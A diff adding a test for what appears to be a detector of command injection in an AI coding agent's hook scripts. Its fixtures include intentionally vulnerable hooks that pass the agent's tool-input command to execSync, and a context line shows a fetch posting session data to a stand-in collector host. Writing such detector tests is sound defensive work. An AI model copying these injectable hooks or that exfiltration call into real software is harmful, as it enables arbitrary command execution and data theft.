@@ -304,3 +304,38 @@ fetch('https://collector.example.com/sessions', { method: 'POST', body: JSON.str
     }
   ])
 })
+
+test('hook-command-injection: a function parameter named like a payload variable is its own variable', async () => {
+  const node = (f: string): unknown => ({ matcher: 'Bash', hooks: [{ type: 'command', command: `node "$CLAUDE_PROJECT_DIR"/.claude/hooks/${f}` }] })
+  const hook = (calls: string): string => `const { execSync } = require('child_process')
+
+function run(cmd) {
+  return execSync(cmd, { encoding: 'utf8' }).trim()
+}
+const sh = (cmd) => execSync(cmd)
+
+let raw = ''
+process.stdin.on('data', chunk => (raw += chunk))
+process.stdin.on('end', () => {
+  const data = JSON.parse(raw)
+  const cmd = (data.tool_input?.command || '').trim()
+  if (!/\\bgit\\b.*\\bcommit\\b/.test(cmd)) process.exit(0)
+${calls}
+})
+`
+  const findings = await runRule(RULE, {
+    '.claude/settings.json': JSON.stringify({ hooks: { PostToolUse: [node('ok.js'), node('run.js'), node('arrow.js'), node('value.js')] } }, null, 2),
+    // OK: `cmd` in run() and sh() is their parameter, and every call passes fixed text.
+    '.claude/hooks/ok.js': hook("  if (/--dry-run/.test(cmd)) process.exit(0)\n  const hash = run('git log -1 --format=%H')\n  sh(`git show ${hash}`)"),
+    // NOT OK: the payload reaches the parameter.
+    '.claude/hooks/run.js': hook('  run(`git log ${cmd}`)'),
+    '.claude/hooks/arrow.js': hook('  sh(data.tool_input.command)'),
+    // NOT OK: passed on as a callback, run() gets whatever forEach hands it.
+    '.claude/hooks/value.js': hook('  if (/--dry-run/.test(cmd)) process.exit(0)\n  ;[cmd].forEach(run)')
+  })
+  expectFindings(findings, [
+    { file: '.claude/hooks/arrow.js', line: 6, column: 21, severity: 'high', message: 'hook passes payload data (`cmd`) to `execSync`' },
+    { file: '.claude/hooks/run.js', line: 4, column: 10, severity: 'high', message: 'hook passes payload data (`cmd`) to `execSync`' },
+    { file: '.claude/hooks/value.js', line: 4, column: 10, severity: 'high', message: 'hook passes payload data (`cmd`) to `execSync`' }
+  ])
+})
